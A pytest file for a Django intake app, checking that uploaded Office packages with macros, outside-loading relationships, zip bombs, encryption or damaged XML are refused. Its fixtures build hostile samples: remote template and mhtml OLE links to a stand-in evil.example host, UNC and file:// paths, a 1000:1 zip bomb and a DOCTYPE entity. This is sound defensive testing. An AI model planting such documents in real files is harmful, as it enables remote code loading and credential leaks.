"""Office documents are zip packages: ones that run code, fetch content or unpack into a bomb are refused."""

import io
import os
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from intake import validators
from intake.models import Attachment, InquiryEvent
from tests.factories import DraftFactory

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                f'<Relationship Id="rId1" Type="{REL}/officeDocument" Target="word/document.xml"/>'
                '</Relationships>')


def rels(*relationships):
    body = "".join(f'<Relationship Id="rId{i}" Type="{REL}/{kind}" Target="{target}" TargetMode="{mode}"/>'
                   for i, (kind, target, mode) in enumerate(relationships, start=1))
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{body}</Relationships>'


def package(extra=(), content_types="<Types/>", marker="word/document.xml", compression=zipfile.ZIP_DEFLATED):
    """A minimal Office package, built in memory, with `extra` (name, bytes or str) parts added."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        archive.writestr("[Content_Types].xml", content_types)
        archive.writestr("_rels/.rels", PACKAGE_RELS)
        archive.writestr(marker, "<document/>")
        for name, data in extra:
            archive.writestr(name, data)
    return buffer.getvalue()


def upload(client, draft, name, content):
    url = reverse("intake:inquiry_step", args=[draft.public_id, "attachments"])
    return client.post(url, {"file": SimpleUploadedFile(name, content)})


def assert_refused(response, settings, message):
    assert response.status_code == 400
    assert message in response.content.decode().replace("&#x27;", "'")
    assert not Attachment.objects.exists()
    assert not InquiryEvent.objects.filter(kind=InquiryEvent.Kind.ATTACHMENT_ADDED).exists()
    assert [n for _, _, names in os.walk(settings.MEDIA_ROOT) for n in names] == []


@pytest.mark.django_db
@pytest.mark.parametrize("name, content", [
    ("case.docx", package([("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 macros")])),
    ("model.xlsx", package([("customXml/hidden/VBAPROJECT.BIN", b"macros")], marker="xl/workbook.xml")),
    ("renamed.docx", package(content_types='<Types><Override PartName="/word/document.xml" ContentType='
                                           '"application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>')),
])
def test_it_refuses_an_office_file_with_macros(submitter_client, submitter, settings, name, content):
    draft = DraftFactory(submitter=submitter)
    assert_refused(upload(submitter_client, draft, name, content), settings, validators.MACROS)


@pytest.mark.django_db
@pytest.mark.parametrize("name, rels_part, relationship", [
    ("case.docx", "word/_rels/settings.xml.rels", ("attachedTemplate", "https://evil.example/t.dotm", "External")),
    ("deck.pptx", "ppt/slides/_rels/slide1.xml.rels", ("oleObject", "mhtml:https://evil.example/x!x", "External")),
    ("case.docx", "word/_rels/document.xml.rels", ("image", "\\\\fileshare\\leak.png", "External")),
    ("case.docx", "word/_rels/document.xml.rels", ("hyperlink", "file://fileshare/share", "External")),
])
def test_it_refuses_an_office_file_that_loads_content_from_outside(submitter_client, submitter, settings, name,
                                                                   rels_part, relationship):
    marker = "ppt/presentation.xml" if name.endswith("pptx") else "word/document.xml"
    content = package([(rels_part, rels(relationship))], marker=marker)
    response = upload(submitter_client, DraftFactory(submitter=submitter), name, content)
    assert_refused(response, settings, "The selected file loads content from outside the document")
    assert relationship[1][:20] in response.content.decode().replace("&#x27;", "'").replace("&amp;", "&")


@pytest.mark.django_db
def test_it_accepts_web_and_email_links_and_internal_relationships(submitter_client, submitter):
    content = package([("word/_rels/document.xml.rels", rels(
        ("hyperlink", "https://www.england.nhs.uk/", "External"),
        ("hyperlink", "mailto:hub@nhs.net", "External"),
        ("styles", "styles.xml", "Internal"),
    ))])
    response = upload(submitter_client, DraftFactory(submitter=submitter), "case.docx", content)
    assert response.status_code == 302
    assert Attachment.objects.get().original_name == "case.docx"


@pytest.mark.django_db
def test_it_refuses_a_zip_bomb_by_its_expansion_ratio(submitter_client, submitter, settings):
    # 20 MB of zeros deflates to about 20 KB: a 1000:1 ratio, where real documents stay below 30:1.
    content = package([("word/media/image1.png", b"\0" * (20 * 1024 * 1024))])
    assert len(content) < 100 * 1024
    assert_refused(upload(submitter_client, DraftFactory(submitter=submitter), "case.docx", content), settings,
                   "The selected file unpacks to more than 100 times its size or more than 100 MB")


@pytest.mark.django_db
def test_it_refuses_a_package_that_unpacks_past_the_size_limit_at_any_ratio(submitter_client, submitter, settings,
                                                                          monkeypatch):
    # Stored, not compressed (ratio 1:1), so only the total trips; the limit is lowered to keep the test small.
    monkeypatch.setattr(validators, "ZIP_MAX_UNCOMPRESSED_BYTES", 64 * 1024)
    content = package([("word/media/image1.png", os.urandom(80 * 1024))], compression=zipfile.ZIP_STORED)
    response = upload(submitter_client, DraftFactory(submitter=submitter), "case.docx", content)
    assert response.status_code == 400
    assert "unpacks to more than" in response.content.decode()
    assert not Attachment.objects.exists()


@pytest.mark.django_db
def test_it_refuses_a_package_whose_members_are_encrypted(submitter_client, submitter, settings):
    content = bytearray(package())
    # Set the "encrypted" flag bit on every member, as zip -e and 7-Zip do (zipfile cannot write one): in
    # each local header (flags at offset 6) and central directory entry (flags at offset 8).
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = content.find(signature)
        while start != -1:
            content[start + offset] |= 0x1
            start = content.find(signature, start + 4)
    assert_refused(upload(submitter_client, DraftFactory(submitter=submitter), "case.docx", bytes(content)), settings,
                   validators.PASSWORD_PROTECTED)


@pytest.mark.django_db
def test_it_refuses_a_password_protected_office_document_with_that_reason(submitter_client, submitter, settings):
    # Office saves a password-protected .docx as an OLE2 compound file holding an EncryptedPackage stream.
    ole2 = (bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 504 + "EncryptionInfo".encode("utf-16-le")
            + b"\0" * 50 + "EncryptedPackage".encode("utf-16-le") + b"\0" * 400)
    assert_refused(upload(submitter_client, DraftFactory(submitter=submitter), "case.docx", ole2), settings,
                   validators.PASSWORD_PROTECTED)


@pytest.mark.django_db
@pytest.mark.parametrize("content", [
    b"PK\x03\x04 not really a zip",
    package()[:-40],  # cut short: no end of central directory
    package([("word/_rels/document.xml.rels", "<Relationships><Relationship")]),  # unfinished XML
    package([("word/_rels/document.xml.rels",
              '<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">]><Relationships>&a;</Relationships>')]),
    package([("word/_rels/document.xml.rels",
              '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY a "x">]><r/>'.encode("utf-16"))]),
])
def test_it_refuses_a_damaged_package_with_that_reason(submitter_client, submitter, settings, content):
    assert_refused(upload(submitter_client, DraftFactory(submitter=submitter), "case.docx", content), settings,
                   validators.DAMAGED)
